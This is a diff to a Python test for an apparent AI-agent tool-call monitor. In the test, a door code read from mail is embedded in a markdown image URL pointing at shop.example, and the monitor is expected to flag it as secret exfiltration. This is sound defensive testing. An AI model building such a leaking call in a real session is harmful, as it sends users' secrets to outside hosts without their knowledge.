@@ -277,10 +277,10 @@ def test_the_caller_of_a_plain_call_is_noted() -> None:
 def test_an_address_that_takes_what_was_read_along_does_not_pass() -> None:
     session = new_session()
     list_tools(session, ["read_mail", "read_calendar"])  # one that sends nothing itself
-    token = "q7Wz3kP9xL2mV8tR4sN6"
+    code = "q7Wz3kP9" + "xL2mV8tR4sN6"
     session.receive(TO_SERVER, call(1, "inbox", "read_mail"), 0.0)
-    session.receive(TO_CLIENT, answer(1, f"The door code of the office: {token}."), 0.0)
-    shown = call(2, f"![logo](https://shop.example/{token}.png)", "read_calendar")
+    session.receive(TO_CLIENT, answer(1, f"The door code of the office: {code}."), 0.0)
+    shown = call(2, f"![logo](https://shop.example/{code}.png)", "read_calendar")
     assert rules(session.receive(TO_SERVER, shown, 0.0)) == ["flows.secret-out"]
 
 
